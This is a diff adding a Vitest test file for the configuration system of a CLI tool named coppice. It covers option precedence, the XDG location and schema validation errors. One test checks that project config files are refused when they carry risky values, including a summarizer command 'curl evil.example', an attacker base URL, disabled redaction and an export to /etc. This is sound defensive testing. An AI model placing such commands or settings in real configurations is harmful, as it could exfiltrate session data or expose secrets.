@@ -1,0 +1,172 @@
+import { mkdir } from 'node:fs/promises';
+import { join } from 'node:path';
+import { beforeEach, describe, expect, it } from 'vitest';
+import { runTest, type TestRun, type TestWorld } from '../../memory-terminal.ts';
+import { sampleSession } from '../../sample-session.ts';
+import { compile, readSchema } from '../../schemas/schema.ts';
+import { makeTempDir, writeFiles } from '../../temp-dir.ts';
+
+const OWN = 'home/.config/coppice/config.json';
+const PROJECT = 'work/coppice.config.json';
+const schema = compile(readSchema('config'));
+
+let dir: string;
+
+beforeEach(async () => {
+  dir = await makeTempDir();
+  await mkdir(join(dir, 'work/src/deep'), { recursive: true });
+  await writeFiles(dir, {
+    'store/old.jsonl': sampleSession({ id: 'old-one', start: '2026-01-01T00:00:00.000Z' }),
+    'store/new.jsonl': sampleSession({ id: 'new-one', start: '2027-01-01T00:00:00.000Z' }),
+  });
+});
+
+const run = (argv: readonly string[], world: TestWorld = {}): Promise<TestRun> =>
+  runTest(argv, { cwd: join(dir, 'work/src/deep'), home: join(dir, 'home'), ...world });
+
+const configure = (files: Readonly<Record<string, object>>): Promise<void> =>
+  writeFiles(
+    dir,
+    Object.fromEntries(Object.entries(files).map(([name, value]) => [name, JSON.stringify(value)])),
+  );
+
+/** Option → value and where it is from. */
+async function print(argv: readonly string[]): Promise<Record<string, readonly [unknown, string]>> {
+  const { out } = await run([...argv, '--print-config', '--json']);
+  const results: { option: string; value: unknown; from: string }[] = JSON.parse(out);
+  return Object.fromEntries(results.map(({ option, value, from }) => [option, [value, from]]));
+}
+
+async function listIds(argv: readonly string[]): Promise<readonly string[]> {
+  const { out } = await run(['list', '--json', ...argv]);
+  const { results }: { results: { id: string }[] } = JSON.parse(out);
+  return results.map(({ id }) => id);
+}
+
+describe('a configuration', () => {
+  it('gives options their defaults: own file, then the project, then the command line', async () => {
+    await configure({
+      [OWN]: { defaults: { jobs: 7 }, list: { sort: 'size', limit: 9, store: ['~/../store'] } },
+      [PROJECT]: { list: { limit: 2, sort: 'cost' } },
+    });
+    const [own, project] = [join(dir, OWN), join(dir, PROJECT)];
+    expect(await print(['list', '--sort', 'name'])).toMatchObject({
+      jobs: [7, own],
+      store: [[join(dir, 'store')], own],
+      limit: [2, project],
+      sort: ['name', 'command line'],
+      reverse: [false, 'default'],
+    });
+  });
+
+  it('says more of one command than of all', async () => {
+    await configure({ [OWN]: { list: { jobs: 2 }, defaults: { jobs: 3 } } });
+    expect((await print(['list']))['jobs']?.[0]).toBe(2);
+    expect((await print(['fork']))['jobs']?.[0]).toBe(3);
+  });
+
+  it('acts', async () => {
+    await configure({ [OWN]: { defaults: { store: ['../../../store'] }, list: { last: 1 } } });
+    expect(await listIds([])).toEqual(['new-one']);
+    expect(await listIds(['--last', '2'])).toEqual(['new-one', 'old-one']);
+    expect(await listIds(['--no-config', '--store', join(dir, 'store')])).toHaveLength(2);
+  });
+
+  it('is where XDG has it, and nowhere else', async () => {
+    await configure({ 'xdg/coppice/config.json': { list: { limit: 4 } }, [OWN]: { a: 1 } });
+    const env = { XDG_CONFIG_HOME: join(dir, 'xdg') };
+    const { out } = await run(['list', '--print-config'], { env });
+    expect(out).toMatch(/^limit +4 +.*xdg\/coppice\/config\.json$/m);
+  });
+
+  it('named on the command line is the only one, and trusted', async () => {
+    await configure({
+      'ci.json': { list: { last: 1 } },
+      [PROJECT]: { list: { limit: 2 } },
+    });
+    const printed = await print(['list', '--config', join(dir, 'ci.json')]);
+    expect(printed).toMatchObject({ last: [1, join(dir, 'ci.json')] });
+    expect(printed).not.toHaveProperty('limit');
+  });
+
+  it('holds the levels of rules, and the context windows of models', async () => {
+    await configure({
+      [OWN]: {
+        validate: { rule: { 'entry-orphan': 'error' } },
+        compact: { 'context-window': { 'anthropic/*': 1_000_000, '*': 300_000 } },
+      },
+    });
+    expect((await print(['validate']))['rule']?.[0]).toEqual(['entry-orphan=error']);
+    expect((await print(['compact']))['context-window']?.[0]).toEqual([
+      'anthropic/*=1000000',
+      '300000',
+    ]);
+  });
+
+  it('is shown to people too, with ~ for the home directory', async () => {
+    await configure({ [OWN]: { list: { limit: 9 } } });
+    const { out } = await run(['list', '--print-config']);
+    expect(out).toMatch(/^limit +9 +~\/\.config\/coppice\/config\.json$/m);
+  });
+});
+
+describe('a configuration is refused', () => {
+  it.each([
+    [{ prune: { apply: true } }, 'prune.apply: is for the command line only'],
+    [{ prune: { delete: true } }, 'prune.delete: is for the command line only'],
+    [{ defaults: { apply: true } }, 'defaults.apply: is for the command line only'],
+    [{ validate: { fix: true } }, 'validate.fix: is for the command line only'],
+    [{ prune: { 'allow-empty': true } }, 'prune.allow-empty: is for the command line only'],
+    [{ fork: { last: 1 } }, 'fork.last: is for the command line only'],
+    [{ prnue: {} }, "unknown command 'prnue'; did you mean prune?"],
+    [{ prune: { 'keep-lst': 3 } }, 'prune.keep-lst: unknown option; did you mean keep-last?'],
+    [{ prune: { 'keep-last': 'x' } }, 'prune.keep-last: expected a whole number'],
+    [{ list: { limit: -1 } }, 'list.limit: expected a whole number'],
+    [{ list: { sort: 'age' } }, 'list.sort: unknown value; use one of modified'],
+    [{ list: { reverse: 1 } }, 'list.reverse: is not true or false'],
+    [{ list: { store: '/x' } }, 'list.store: is not a list of strings'],
+    [{ list: { columns: 3 } }, 'list.columns: is not a string'],
+    [{ validate: { rule: 'x=error' } }, 'validate.rule: is neither an object nor a list'],
+    [
+      { validate: { rule: { 'entry-orphn': 'off' } } },
+      "validate.rule: unknown rule 'entry-orphn'; did",
+    ],
+    [{ validate: { rule: ['entry-orphan'] } }, 'validate.rule: expected entry-orphan=off|info'],
+    [
+      { validate: { rule: { x: {} } } },
+      'validate.rule: has a value that is neither text nor a number',
+    ],
+    [{ list: [] }, 'list is not an object of options'],
+  ])('%j, with the file and a hint, whatever command runs', async (config, message) => {
+    await configure({ [OWN]: config });
+    const { exitCode, out, err } = await run(['list']);
+    expect({ exitCode, out }).toEqual({ exitCode: 2, out: '' });
+    expect(err).toContain(`coppice: ${join(dir, OWN)}: ${message}`);
+    expect(schema(config)).toBe(false);
+  });
+
+  it.each([
+    { prune: { 'older-than': '1min' } },
+    { compact: { 'summarizer-command': 'curl evil.example' } },
+    { defaults: { 'base-url': 'https://evil.example' } },
+    { export: { redact: false } },
+    { export: { out: '/etc' } },
+    { defaults: { store: ['/'] } },
+  ])('%j, when it is the file of a project', async (config) => {
+    await configure({ [PROJECT]: config });
+    const { exitCode, err } = await run(['list']);
+    expect(exitCode).toBe(2);
+    expect(err).toContain('is not allowed in a project file');
+    expect(schema(config)).toBe(true);
+  });
+
+  it('when it is not JSON, or not there', async () => {
+    await writeFiles(dir, { [PROJECT]: '{"list":' });
+    expect((await run(['list'])).err).toContain('coppice.config.json: is not valid JSON');
+    expect((await run(['list', '--config', 'x.json'])).err).toContain('x.json: no such file');
+  });
+
+  it('when the command line names no file', async () => {
+    expect(await run(['list', '--config'])).toMatchObject({ exitCode: 2 });
+  });
+});
